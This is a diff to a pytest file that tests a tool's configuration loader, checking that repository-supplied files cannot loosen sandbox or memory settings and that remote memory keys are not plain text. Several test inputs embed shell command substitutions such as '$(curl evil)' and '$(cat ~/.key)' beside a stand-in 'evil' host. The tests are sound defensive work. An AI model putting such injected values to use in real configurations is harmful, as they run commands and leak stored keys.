@@ -151,6 +151,8 @@ def test_a_file_that_is_not_text_is_a_problem_and_not_a_crash(files: Files) -> N
         '[sandbox]\nprefer = "landlock"\n',
         '[store]\nurl = "postgresql://evil/x"\n',
         '[store]\nurl = "$(curl evil)"\n',
+        '[memory]\nmode = "remote"\nurl = "http://evil"\napi_key = "$(cat ~/.key)"\n',
+        '[memory]\npath = "/etc/x"\n',
     ],
 )
 def test_a_file_that_came_with_the_repository_cannot_loosen_anything(files: Files, text: str) -> None:
@@ -169,6 +171,23 @@ def test_a_file_that_came_with_the_repository_may_tighten(files: Files) -> None:
             home='[sandbox]\nprofile = "workspace-no-network"\n',
             tracked=True,
         )
+
+
+@pytest.mark.conforms("C-95")
+def test_a_remote_memory_needs_an_address_and_a_key_that_is_no_plain_text(files: Files) -> None:
+    assert files.load("").memory.mode == "embedded"
+    for text in (
+        'mode = "remote"',
+        'mode = "remote"\nurl = "http://host:7843"',
+        'url = "http://me:pw@host"',
+        'api_key = "hunter2"',
+    ):
+        with pytest.raises(InvalidConfig) as refused:
+            files.load(f"[memory]\n{text}\n")
+        assert "memory." in refused.value.problems[0] and "hunter2" not in refused.value.problems[0]
+    remote = files.load('[memory]\nmode = "remote"\nurl = "http://host:7843"\napi_key = "$(cat key)"\n')
+    assert remote.memory.url == "http://host:7843"
+    assert files.load('[memory]\nmode = "off"\n', tracked=True).memory.mode == "off"
 
 
 def test_durations() -> None:
